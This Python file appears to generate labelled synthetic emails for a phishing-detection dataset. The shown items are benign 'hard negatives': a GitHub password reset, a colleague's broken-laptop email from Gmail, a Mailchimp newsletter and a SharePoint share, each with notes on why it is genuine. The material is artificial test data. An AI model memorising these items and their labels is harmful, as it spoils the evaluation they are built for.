h13 = notice_html('Reset your GitHub password', ['Hi @tbrandl-eg,', 'We heard that you lost your GitHub password. Sorry about that!',
                                                  'But don\'t worry! You can use the following button to reset your password:'],
                  button=('Reset your password', GH),
                  footer=['If you don\'t use this link within 3 hours, it will expire. To get a new password reset link, visit: https://github.com/password_reset',
                          'Thanks, The GitHub Team', 'GitHub, Inc. ・88 Colin P Kelly Jr Street ・San Francisco, CA 94107'],
                  brand='GitHub', color='#24292f', lang='en')
BUSINESS.append(M(
    folder='business', n=13, lang='en', slug='github-password-reset',
    when=('PT', 2026, 11, 20, 0, 33, 0), date_zone='PT',
    prof=lambda u, r: github_notif(u, r),
    frm=('GitHub', 'noreply@github.com'), to=[S('thomas.brandl')], return_path='noreply@github.com',
    subject='[GitHub] Please reset your password', hcs=('UTF-8', 'B'),
    body=lambda c: ALT(c, b13, 'UTF-8', '7bit', html=h13, html_cte='quoted-printable'),
    technique='-',
    what='Genuine GitHub password-reset mail requested by the head of IT.',
    why='GitHub SMTP infrastructure (out-*.smtp.github.com), github.com links, expected after a user-initiated reset.',
    hardneg=None))

b14 = """Hi Oliver (cc Thomas),

My work laptop died last night – it won't get past the Dell logo and then shows a blue "Automatic Repair" screen. I've tried a hard reset twice. I'm emailing from my personal account because I can't get into Outlook on my phone either (it's still on the old handset).

I'll come into the office tomorrow and bring the laptop to the IT desk. Thomas, is there a spare I could use in the meantime? No need to change anything on my account, I just need a working machine.

Month-end reconciliations for the UK entity are due Friday, so I'll catch up tomorrow.

Thanks,
Priya"""
BUSINESS.append(M(
    folder='business', n=14, lang='en', slug='colleague-broken-laptop-private-gmail',
    when=('UK', 2026, 12, 9, 8, 2, 0),
    prof=lambda u, r: gmail(u, r, 'oliver.bennett@example.com', zone='UK'),
    frm=('Priya Shah', 'priya.shah.london@gmail.com'), to=[S('oliver.bennett')], cc=[S('thomas.brandl')],
    subject="Laptop won't start – not in today", hcs=('UTF-8', 'B'),
    body=lambda c: ALT(c, b14, 'UTF-8', 'quoted-printable', style='gmail'),
    technique='-',
    what='UK accountant reports a broken laptop from her private Gmail.',
    why='Colleague on a free mailer, but no request for money, codes, credentials or account changes; will come in person; IT in Cc.',
    hardneg='attack 12'))

nl15 = [('UK school ski bookings up 9% for February half-term', 'Operators report strong demand for Austria and Italy; Germany gains as a value option.', 'https://snowindustryinsider.us21.list-manage.com/track/click?u=4f2b8c1e9d3a7b6c5e0f1a2b3&id=7c1e3a9d2f&e=5b0c8e1d4a'),
    ('Alpine snow outlook: a slow start below 1,500 m', 'Forecasters expect a mild first half of December with snowmaking doing the heavy lifting.', 'https://snowindustryinsider.us21.list-manage.com/track/click?u=4f2b8c1e9d3a7b6c5e0f1a2b3&id=3d8a1c6e0b&e=5b0c8e1d4a'),
    ('Dynamic lift-ticket pricing: what UK customers will accept', 'Survey of 2,100 UK skiers on advance-purchase discounts.', 'https://snowindustryinsider.us21.list-manage.com/track/click?u=4f2b8c1e9d3a7b6c5e0f1a2b3&id=9e2b7d4c1a&e=5b0c8e1d4a')]
ft15 = ['You are receiving this email because you subscribed at snowindustryinsider.com.',
        '[Unsubscribe](https://snowindustryinsider.us21.list-manage.com/unsubscribe?u=4f2b8c1e9d3a7b6c5e0f1a2b3&id=a91c2e7f4d&e=5b0c8e1d4a&c=6d3f8a2b1c) | [Update preferences](https://snowindustryinsider.us21.list-manage.com/profile?u=4f2b8c1e9d3a7b6c5e0f1a2b3&id=a91c2e7f4d&e=5b0c8e1d4a)',
        'Snow Industry Insider · 3rd Floor, 86-90 Paul Street · London EC2A 4NE · United Kingdom']
BUSINESS.append(M(
    folder='business', n=15, lang='en', slug='newsletter-snow-industry-mailchimp',
    when=('ET', 2026, 11, 25, 6, 0, 0), date_zone='ET',
    prof=lambda u, r: mailchimp(u, r),
    frm=('Snow Industry Insider', 'news@snowindustryinsider.com'), to=[S('oliver.bennett')],
    return_path='bounce-mc.us21_123456789.7654321-5b0c8e1d4a@mail154.suw13.mcdlv.net',
    subject='This week: UK school bookings up 9%, Alpine snow outlook, lift-ticket pricing', hcs=('utf-8', 'Q'),
    hdrs=[('List-Unsubscribe', '<https://snowindustryinsider.us21.list-manage.com/unsubscribe?u=4f2b8c1e9d3a7b6c5e0f1a2b3&id=a91c2e7f4d&e=5b0c8e1d4a&c=6d3f8a2b1c>, <mailto:unsubscribe-mc.us21_4f2b8c1e9d3a7b6c5e0f1a2b3.6d3f8a2b1c-5b0c8e1d4a@unsub.mcsv.net?subject=unsubscribe>'),
          ('List-Unsubscribe-Post', 'List-Unsubscribe=One-Click'), ('List-Id', '4f2b8c1e9d3a7b6c5e0f1a2b3mc list <4f2b8c1e9d3a7b6c5e0f1a2b3.123456.list-id.mcsv.net>')],
    body=lambda c: ALT(c, newsletter_text('Snow Industry Insider', 'Good morning – here is this week\'s briefing.', nl15, ft15), 'utf-8', 'quoted-printable',
                       html=newsletter_html('Snow Industry Insider', 'Good morning – here is this week\'s briefing.', nl15, ft15, color='#16365c', lang='en')),
    technique='-',
    what='Subscribed industry newsletter sent through Mailchimp.',
    why='Mailchimp infrastructure, List-Unsubscribe with one-click, consistent list-manage tracking links, no credential or payment request.',
    hardneg=None))

SP16 = 'https://snowlinetravel.sharepoint.com/:f:/s/Operations/Eo4Lk2qTz8FNmYc9w1VbR0ABx7QmZp3H6sdKj5tUu2WvXg?e=3nTq7a'
b16 = """Rachel Dunmore shared a folder with you

Hi Hannah – here are the rooming lists for the February half-term groups (Garmisch and Cortina). The Cortina list will change once St Mary's confirm numbers on Friday. Thanks, Rachel

Snowline 2027 – rooming lists

[Open](%s)

This link only works for the direct recipients of this message.

Microsoft respects your privacy. To learn more, please read our Privacy Statement.
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052""" % SP16
h16 = notice_html('Rachel Dunmore shared a folder with you', [
    'Hi Hannah – here are the rooming lists for the February half-term groups (Garmisch and Cortina). The Cortina list will change once St Mary\'s confirm numbers on Friday. Thanks, Rachel',
    'Snowline 2027 – rooming lists'], button=('Open', SP16),
    footer=['This link only works for the direct recipients of this message.', 'Microsoft respects your privacy. To learn more, please read our Privacy Statement.',
            'Microsoft Corporation, One Microsoft Way, Redmond, WA 98052'], brand='SharePoint', color='#036c70', lang='en')
BUSINESS.append(M(
    folder='business', n=16, lang='en', slug='sharepoint-share-rooming-lists',
    when=('UK', 2026, 10, 27, 11, 32, 0), date_zone='UTC',
    prof=lambda u, r: exo(u, r, 'snowlinetravel.co.uk', lang='en-US', gb=True),
    frm=('Rachel Dunmore (via SharePoint Online)', 'no-reply@sharepointonline.com'), reply_to=('Rachel Dunmore', 'r.dunmore@snowlinetravel.co.uk'),
    to=[S('hannah.clarke')], return_path='no-reply@sharepointonline.com',
    subject='Rachel Dunmore shared the folder "Snowline 2027 – rooming lists" with you', hcs=('utf-8', 'B'),
    body=lambda c: ALT(c, b16, 'utf-8', 'quoted-printable', html=h16),
    technique='-',
    what='Genuine SharePoint Online sharing notification from a school-trip customer with rooming lists.',
    why='Sent by no-reply@sharepointonline.com through Microsoft outbound, Reply-To is the known customer contact, link to the customer\'s own SharePoint site restricted to direct recipients, expected business content.',
    hardneg='attack 15'))
